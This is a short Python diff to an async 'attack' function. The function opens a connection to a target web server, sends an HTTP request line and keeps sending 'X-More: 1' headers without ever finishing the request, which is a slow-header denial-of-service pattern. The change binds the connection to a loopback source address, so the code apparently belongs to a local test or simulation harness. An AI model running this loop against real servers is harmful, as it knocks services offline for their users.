@@ -11,7 +11,7 @@ async def attack(target: Target) -> None:
     """Attack until cancelled."""
 
     async def once() -> None:
-        async with dial(target.web) as (reader, writer):
+        async with dial(target.web, "127.6.6.7") as (reader, writer):
             writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
             while not reader.at_eof():
                 writer.write(b"X-More: 1\r\n")
